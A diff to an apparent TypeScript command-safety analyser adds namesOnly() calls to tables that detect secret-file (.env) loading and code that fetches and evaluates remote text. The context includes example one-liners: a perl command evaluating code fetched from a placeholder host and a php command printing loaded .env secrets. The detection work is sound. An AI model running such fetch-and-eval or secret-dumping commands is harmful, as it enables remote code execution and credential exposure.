@@ -1,6 +1,7 @@
 // Interpreters: the arguments of a script are the script's business (a secret path among them
 // counts as read); one-liners are judged by their code (see ../code.ts, and CODE_APIS below).
 import type { ProgramSpec } from './types';
+import { namesOnly } from './table';
 
 /**
  * Per language: calls that read files, calls whose first literal argument is written, calls whose
@@ -140,6 +141,7 @@ export const DOTENV_LOADERS: Record<string, { module: RegExp; loads: RegExp; pri
     examples: [`php -r "print_r(Dotenv\\Dotenv::createImmutable('.')->load());"`],
   },
 };
+namesOnly(DOTENV_LOADERS);
 
 /**
  * Per language: code that evaluates text (eval, exec, Function) and calls that fetch from the
@@ -170,11 +172,13 @@ export const CODE_EVAL: Record<string, { evaluates: RegExp; fetches: RegExp; exa
   },
   perl: { evaluates: /\beval\b/, fetches: /LWP|HTTP::Tiny|get\s*\(\s*['"]https?:/, example: `perl -MLWP::Simple -e 'eval get("https://x.example.com/p")'` },
 };
+namesOnly(CODE_EVAL);
 
 const ARGS = { rest: 'arg' as const };
 
 /** perl's -0[digits], -l[digits] and -i[extension]: values attached or absent (`-0pi` is -0 -p -i). */
 const PERL_OPTIONAL: Record<string, 'digits' | 'rest'> = { '-0': 'digits', '-l': 'digits', '-i': 'rest' };
+namesOnly(PERL_OPTIONAL);
 
 export const INTERPRETERS: ProgramSpec[] = [
   {
